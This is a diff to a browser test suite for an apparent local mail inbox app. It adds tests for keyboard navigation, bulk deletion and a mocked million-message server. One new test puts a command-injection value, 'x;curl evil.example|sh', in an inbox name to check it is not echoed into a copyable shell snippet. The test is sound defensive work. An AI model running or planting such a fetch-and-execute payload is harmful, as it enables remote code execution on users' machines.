@@ -99,6 +99,13 @@ def tells_how_to_send_mail_here(page):
     page.press(Keys.ESCAPE)
 
 
+def offers_no_settings_that_act(page):
+    """An inbox is named in the address, which anybody can write; what is copied goes into a shell."""
+    page.open(inbox="x;curl evil.example|sh")
+    page.wait("document.querySelector('#empty .copyable') || !document.getElementById('search-error').hidden")
+    assert "evil" not in page.text("#empty pre")
+
+
 def lets_go_what_is_no_longer_kept(page):
     page.open()
     page.driver.execute_async_script("""const [done] = arguments; fetch("api/inboxes/few", {method: "PUT",
@@ -137,6 +144,57 @@ def takes_deletions_back(page):
     page.wait("document.querySelectorAll('#rows [data-id]').length === 2", patience=12)
 
 
+def keeps_to_the_message_it_is_at(page):
+    """Rows come and go; what is done is done to the message that somebody went to."""
+    for number in range(3):
+        page.deliver(f"aimed at {number}")
+    page.open(q="subject:aimed")
+    page.press("j", "k", "j")
+    page.wait("document.querySelector('#rows .current')?.textContent.includes('aimed at 1')")
+    page.deliver("aimed at from above")
+    page.wait("document.querySelectorAll('#rows [data-id]').length === 4")
+    page.wait("document.querySelector('#rows .current')?.textContent.includes('aimed at 1')")
+    page.press("x")
+    page.wait("document.querySelector('#rows .selected')?.textContent.includes('aimed at 1')")
+    page.press("g", "o")
+    page.wait("document.querySelector('#page svg')")
+    page.press("#", "j", Keys.ESCAPE)
+    page.wait("document.body.dataset.open === 'list'")
+    assert page.run("return document.querySelectorAll('#rows .leaving').length") == 0
+
+
+def deletes_what_was_on_the_list_and_no_more(page):
+    for number in range(2):
+        page.deliver(f"old {number}", user="sweep")
+    page.open(inbox="sweep")
+    page.press(":")
+    page.wait("document.querySelector('dialog[open] #palette')")
+    page.press("delete everything", Keys.ENTER)
+    page.wait("document.getElementById('toasts').textContent.includes('2 messages will be deleted')")
+    page.deliver("came since", user="sweep")
+    page.wait("document.querySelectorAll('#rows [data-id]').length === 3")
+    page.click(".toast [aria-label=Dismiss]")
+    page.wait("document.querySelectorAll('#rows [data-id]').length === 1")
+    assert "came since" in page.text("#rows")
+    page.press("#")
+    page.wait("document.querySelector('#rows .leaving')")
+    page.press("z")
+    page.wait("!document.querySelector('#rows .leaving')")
+
+
+def lets_single_keys_do_nothing(page):
+    page.deliver("without keys")
+    page.open()
+    for is_on in (False, True):
+        page.press(Keys.CONTROL + "k")
+        page.wait("document.querySelector('dialog[open] #palette')")
+        page.press("single keys", Keys.ENTER)
+        page.wait("!document.getElementById('dialog').open")
+        page.run("document.getElementById('rows').focus()")
+        page.press("x")
+        page.wait("(document.querySelector('#rows .selected') !== null) === arguments[0]", is_on)
+
+
 def tags_what_is_selected(page):
     page.deliver("tag me")
     page.open(q="subject:\"tag me\"")
@@ -146,9 +204,9 @@ def tags_what_is_selected(page):
     page.wait("document.querySelectorAll('#message .tag').length === 2")
 
 
-# Stands for a server with a million messages; all else is asked of the real one.
+# Stands for a server with a million messages, of which nine million before them are gone; all else is asked of the real one.
 MILLION = """
-const count = 1000000, real = window.fetch.bind(window);
+const count = 1000000, gone = 9000000, real = window.fetch.bind(window);
 const row = (id) => ({id, inbox: "default", receivedAt: "2026-01-31T09:00:00Z", from: {name: `Sender ${id}`, address: "a@b.example"},
   to: [], cc: [], subject: `Message ${id}`, messageID: null, date: null, size: 2048, snippet: "How it begins", attachments: id % 3,
   envelope: {reversePath: "a@b.example", forwardPaths: ["c@d.example"]}, session: null, seen: id % 2 === 0, tags: [], score: 1.5,
@@ -156,11 +214,11 @@ const row = (id) => ({id, inbox: "default", receivedAt: "2026-01-31T09:00:00Z", 
 window.fetch = (path, options) => {
   if (!/^api\\/messages(\\?|$)/.test(path) || (options && options.method)) return real(path, options);
   const given = new URLSearchParams(path.split("?")[1]);
-  const first = Number(given.get("before") ?? count + 1) - 1, limit = Number(given.get("limit"));
-  const messages = []; for (let id = first; id > Math.max(0, first - limit); id -= 1) messages.push(row(id));
-  const last = messages.at(-1)?.id ?? 1;
+  const first = Number(given.get("before") ?? gone + count + 1) - 1, limit = Number(given.get("limit"));
+  const messages = []; for (let id = first; id > Math.max(gone, first - limit); id -= 1) messages.push(row(id));
+  const last = messages.at(-1)?.id ?? 0;
   return Promise.resolve(new Response(JSON.stringify({messages, matched: count, matchedExactly: true,
-    next: last > 1 ? last : null, removedBefore: null}), {headers: {"content-type": "application/json"}}));
+    next: last > gone + 1 ? last : null, removedBefore: null}), {headers: {"content-type": "application/json"}}));
 };
 """
 
@@ -195,16 +253,16 @@ def scrolls_a_million_rows(page):
             break
     assert figures["longest"] <= LONGEST and figures["nodes"] < 100 and figures["heap"] < 60e6, figures
     page.run("document.getElementById('list').scrollTop = 1e9")
-    page.wait("document.getElementById('rows').innerText.includes('Message 1\\n') "
-              "|| /Message 1(\\D|$)/.test(document.getElementById('rows').innerText)")
+    page.wait("/Message 9000001(\\D|$)/.test(document.getElementById('rows').innerText)")
+    assert page.text("#count").startswith("1,000,000"), page.text("#count")
     page.press(Keys.HOME)
-    page.wait("/Message 1000000/.test(document.getElementById('rows').innerText)")
+    page.wait("/Message 10000000/.test(document.getElementById('rows').innerText)")
 
 
 def shows_what_it_knows_while_nobody_answers(page):
     page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
     page.run("document.getElementById('list').scrollTop = 1500")
-    page.wait("/Message 9998\\d\\d/.test(document.getElementById('rows').innerText) && !document.querySelector('#rows > div:not([data-id])')")
+    page.wait("/Message 99998\\d\\d/.test(document.getElementById('rows').innerText) && !document.querySelector('#rows > div:not([data-id])')")
     before = page.text("#rows")
     page.run("""window.asked = 0; window.fetch = () => { window.asked += 1; return Promise.reject(new TypeError('nobody there')); };
         return import('./store.js').then(({pages}) => { pages.refresh(); })""")
@@ -213,7 +271,8 @@ def shows_what_it_knows_while_nobody_answers(page):
 
 
 CHECKS = [shows_new_mail_within_200_ms, shares_one_stream_among_many_pages, searches_and_points_at_mistakes,
-          tells_unread_and_read_apart, switches_inboxes, tells_how_to_send_mail_here, lets_go_what_is_no_longer_kept, tells_of_mail_that_came_above,
-          takes_deletions_back, tags_what_is_selected]
+          tells_unread_and_read_apart, switches_inboxes, tells_how_to_send_mail_here, offers_no_settings_that_act, lets_go_what_is_no_longer_kept,
+          tells_of_mail_that_came_above, takes_deletions_back, keeps_to_the_message_it_is_at, deletes_what_was_on_the_list_and_no_more,
+          lets_single_keys_do_nothing, tags_what_is_selected]
 
 MILLION_CHECKS = [scrolls_a_million_rows, shows_what_it_knows_while_nobody_answers]
